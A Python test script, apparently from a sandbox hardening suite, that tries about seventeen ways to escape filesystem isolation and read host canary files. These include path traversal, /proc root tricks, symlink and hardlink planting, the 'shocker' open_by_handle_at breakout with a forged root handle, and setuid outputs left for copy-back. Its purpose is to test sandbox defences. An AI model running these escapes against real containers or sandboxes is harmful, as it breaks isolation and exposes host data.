"""Filesystem escapes. Usage: filesystem.py MODE [ARGS...] MARKER

Reading a canary is the evidence: the runner finds its token in the output. Writes that should
be impossible print BREACH.

absolute FILE            open the host canary by its absolute path
dotdot FILE              ../../.. from the working directory up to / and down to the canary
proc_self_root FILE      /proc/self/root/<FILE>
proc_1_root FILE PID     /proc/1/root/<FILE>, then /proc/<PID>/root/<FILE> for a host process
                         (some hosts' PID 1 refuses /proc/1/root even to root)
proc_scan FILE           /proc/<pid>/root/<FILE> and /proc/<pid>/cwd/<name> for every pid
symlink_plant OUT DIR FILE
                         plant OUT/link -> DIR and OUT/canary -> FILE, read and write through
                         them, and leave them for the copy-back (a copy that follows them
                         reads the host's canary)
symlink_swap OUT DIR     replace the planted directory OUT/sub by a symlink to DIR and write
                         OUT/sub/pwned
symlink_up OUT FILE      OUT/up -> ../../../.. (far past /), then read OUT/up/<FILE>
hardlink OUT FILE        hardlink the canary into OUT and read it from there
ro_write IN              write, create, chmod, rename and delete in the read-only mount IN
open_by_handle DIR FILE  open files by handle, bypassing paths (the "shocker" escape)
canary_fd FD             read a descriptor the launcher left open
host_read FILES          read each of the host canaries (':'-joined absolute paths) planted in
                         the home, /root, /var/tmp, /srv, /opt, /run/user/UID and /dev/shm
host_walk PREFIX         walk / breadth first, within a budget, and read every file whose name
                         starts with PREFIX (a sandbox that moves the host's tree still leaks)
write_everywhere DIRS PROBE
                         create DIR/PROBE in each of DIRS and keep it: the runner looks for it on
                         the host. WROTE [DIR] says the sandbox's own DIR took it
unsafe_outputs OUT       leave a setuid file, a FIFO and a link out of the volume in OUT, for a
                         copy-back that must not hand them to the host
setuid_output OUT        leave only a setuid and setgid file in OUT: nothing else the copy-back
                         refuses comes first and stops it before this file
"""
import ctypes
import os
import struct
import sys

ARGS = sys.argv[1:-1]  # the last word is the runner's marker


def say(*parts):
    print(*parts, flush=True)


def read_file(path, label=None):
    label = label or path
    try:
        with open(path, "rb") as f:
            data = f.read(4096)
    except OSError as e:
        say(f"BLOCKED read {label}: {e}")
        return None
    say(f"READ {label}: {data.decode(errors='replace').strip()}")
    return data


def absolute(canary):
    read_file(canary)


def dotdot(canary):
    path = "../" * 40 + canary.lstrip("/")
    say(f"CWD {os.getcwd()}")
    read_file(path)


def proc_self_root(canary):
    read_file("/proc/self/root" + canary)


def proc_1_root(canary, host_pid):
    read_file("/proc/1/root" + canary)
    read_file(f"/proc/{host_pid}/root" + canary)


def proc_scan(canary):
    name = os.path.basename(canary)
    pids = sorted((int(p) for p in os.listdir("/proc") if p.isdigit()))
    say(f"SCANNING {len(pids)} pids")
    for pid in pids:
        for path in (f"/proc/{pid}/root{canary}", f"/proc/{pid}/cwd/{name}"):
            try:
                with open(path, "rb") as f:
                    data = f.read(4096)
            except OSError:
                continue
            say(f"READ {path}: {data.decode(errors='replace').strip()}")
            return
    say("NOTHING FOUND")


def write_file(path, label):
    try:
        with open(path, "w") as f:
            f.write("smolvm-check was here\n")
    except OSError as e:
        say(f"BLOCKED write {label}: {e}")
        return False
    say(f"BREACH wrote {label}")
    return True


def symlink_plant(out, canary_dir, canary):
    link = os.path.join(out, "link")
    file_link = os.path.join(out, "canary")
    os.symlink(canary_dir, link)
    os.symlink(canary, file_link)
    say(f"PLANTED {link} -> {canary_dir} and {file_link} -> {canary}")
    read_file(os.path.join(link, os.path.basename(canary)), "through the directory link")
    read_file(file_link, "through the file link")
    write_file(os.path.join(link, "pwned"), f"{canary_dir}/pwned through {link}")


def symlink_swap(out, canary_dir):
    sub = os.path.join(out, "sub")
    try:
        os.unlink(os.path.join(sub, "keep.txt"))
        os.rmdir(sub)
    except OSError as e:
        say(f"could not remove {sub}: {e}")
    os.symlink(canary_dir, sub)
    say(f"SWAPPED {sub} -> {canary_dir}")
    write_file(os.path.join(sub, "pwned"), f"{canary_dir}/pwned through {sub}")


def symlink_up(out, canary):
    up = os.path.join(out, "up")
    os.symlink("../" * 40, up)
    read_file(up + canary, f"{up}{canary}")


def hardlink(out, canary):
    target = os.path.join(out, "hard")
    try:
        os.link(canary, target)
    except OSError as e:
        say(f"BLOCKED link {canary}: {e}")
        return
    say(f"BREACH hardlinked {canary} into {out}")
    read_file(target)


def ro_write(mount):
    data = os.path.join(mount, "data.txt")
    attempts = [
        ("append to data.txt", lambda: open(data, "a").write("smolvm-check was here\n")),
        ("create new.txt", lambda: open(os.path.join(mount, "new.txt"), "w").write("x\n")),
        ("chmod data.txt", lambda: os.chmod(data, 0o777)),
        ("rename data.txt", lambda: os.rename(data, data + ".moved")),
        ("mkdir", lambda: os.mkdir(os.path.join(mount, "newdir"))),
    ]
    for label, attempt in attempts:
        try:
            attempt()
        except OSError as e:
            say(f"BLOCKED {label}: {e}")
            continue
        say(f"BREACH {label} in the read-only mount {mount}")


class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * 128)]


def open_by_handle(canary_dir, canary):
    libc = ctypes.CDLL(None, use_errno=True)
    AT_FDCWD = -100

    def try_open(mount_fd, handle, label):
        fd = libc.open_by_handle_at(mount_fd, ctypes.byref(handle), os.O_RDONLY)
        if fd < 0:
            say(f"BLOCKED open_by_handle_at {label}: {os.strerror(ctypes.get_errno())}")
            return None
        say(f"BREACH open_by_handle_at opened {label}")
        return fd

    # 1. The shocker: a handle forged for inode 2, the root of an ext4 filesystem, opened
    #    relative to any mount of that filesystem (here /usr, bound from the host in most
    #    sandboxes), reaches the whole host filesystem without a path.
    for anchor in ("/usr", "/"):
        try:
            mount_fd = os.open(anchor, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        forged = FileHandle(8, 1)  # FILEID_INO32_GEN: inode 2, generation 0
        struct.pack_into("=II", forged.f_handle, 0, 2, 0)
        fd = try_open(mount_fd, forged, f"a forged root handle relative to {anchor}")
        if fd is not None:
            try:
                say(f"ROOT OF {anchor}'s filesystem: {' '.join(sorted(os.listdir(fd))[:20])}")
                inner = os.open(canary.lstrip("/"), os.O_RDONLY, dir_fd=fd)
                say(f"READ {canary} from it: {os.read(inner, 4096).decode(errors='replace').strip()}")
                os.close(inner)
            except OSError as e:
                say(f"could not reach {canary} from it: {e}")
            os.close(fd)
        os.close(mount_fd)
    # 2. A handle to the canary taken by name, then opened by handle.
    handle = FileHandle(128, 0)
    mount_id = ctypes.c_int()
    if libc.name_to_handle_at(AT_FDCWD, canary.encode(), ctypes.byref(handle),
                              ctypes.byref(mount_id), 0) != 0:
        say(f"BLOCKED name_to_handle_at {canary}: {os.strerror(ctypes.get_errno())}")
        return
    try:
        mount_fd = os.open(canary_dir, os.O_RDONLY | os.O_DIRECTORY)
    except OSError as e:
        say(f"BLOCKED open {canary_dir}: {e}")
        return
    fd = try_open(mount_fd, handle, f"the handle of {canary}")
    if fd is not None:
        say(f"READ {canary} by handle: {os.read(fd, 4096).decode(errors='replace').strip()}")
        os.close(fd)
    os.close(mount_fd)


def canary_fd(number):
    fd = int(number)
    try:
        data = os.pread(fd, 4096, 0)
    except OSError:
        try:
            data = os.read(fd, 4096)
        except OSError as e:
            say(f"BLOCKED fd {fd}: {e}")
            return
    say(f"READ fd {fd}: {data.decode(errors='replace').strip()}")


def host_read(files):
    for path in filter(None, files.split(":")):
        read_file(path)


WALK_BUDGET = 50000  # entries looked at; the host canaries sit two or three levels down


def host_walk(prefix):
    queue, seen, found = ["/"], 0, 0
    while queue and seen < WALK_BUDGET:
        directory = queue.pop(0)
        try:
            entries = list(os.scandir(directory))
        except OSError:
            continue
        for entry in entries:
            seen += 1
            try:
                if entry.is_dir(follow_symlinks=False):
                    if entry.path not in ("/proc", "/sys"):
                        queue.append(entry.path)
                elif entry.name.startswith(prefix) and entry.is_file(follow_symlinks=False):
                    found += 1
                    read_file(entry.path)
            except OSError:
                continue
    say(f"WALKED {seen} entries, found {found}")


def write_everywhere(dirs, probe):
    for directory in filter(None, dirs.split(":")):
        path = os.path.join(directory, probe)
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW, 0o644)
        except OSError as e:
            say(f"BLOCKED create {path}: {e.strerror}")
            continue
        os.write(fd, b"smolvm-check was here\n")
        os.close(fd)
        say(f"WROTE [{directory}]")


def unsafe_outputs(out):
    setuid = os.path.join(out, "setuid")
    attempts = [
        ("setuid file", lambda: (open(setuid, "w").close(), os.chmod(setuid, 0o6755))),
        ("FIFO", lambda: os.mkfifo(os.path.join(out, "fifo"))),
        ("link to /etc/hostname", lambda: os.symlink("/etc/hostname", os.path.join(out, "hostname"))),
    ]
    for label, attempt in attempts:
        try:
            attempt()
        except OSError as e:
            say(f"BLOCKED {label}: {e.strerror}")
            continue
        say(f"PLANTED {label} in {out}")


def setuid_output(out):
    path = os.path.join(out, "setuid")
    try:
        with open(path, "w") as f:
            f.write("#!/bin/sh\n")
        os.chmod(path, 0o6755)
    except OSError as e:
        say(f"BLOCKED setuid file: {e.strerror}")
        return
    say(f"PLANTED setuid file {path}, mode {oct(os.stat(path).st_mode & 0o7777)}")


MODES = {
    "absolute": absolute, "dotdot": dotdot, "proc_self_root": proc_self_root,
    "proc_1_root": proc_1_root, "proc_scan": proc_scan, "symlink_plant": symlink_plant,
    "symlink_swap": symlink_swap, "symlink_up": symlink_up, "hardlink": hardlink,
    "ro_write": ro_write, "open_by_handle": open_by_handle, "canary_fd": canary_fd,
    "host_read": host_read, "host_walk": host_walk, "write_everywhere": write_everywhere,
    "unsafe_outputs": unsafe_outputs, "setuid_output": setuid_output,
}

if __name__ == "__main__":
    MODES[ARGS[0]](*ARGS[1:])
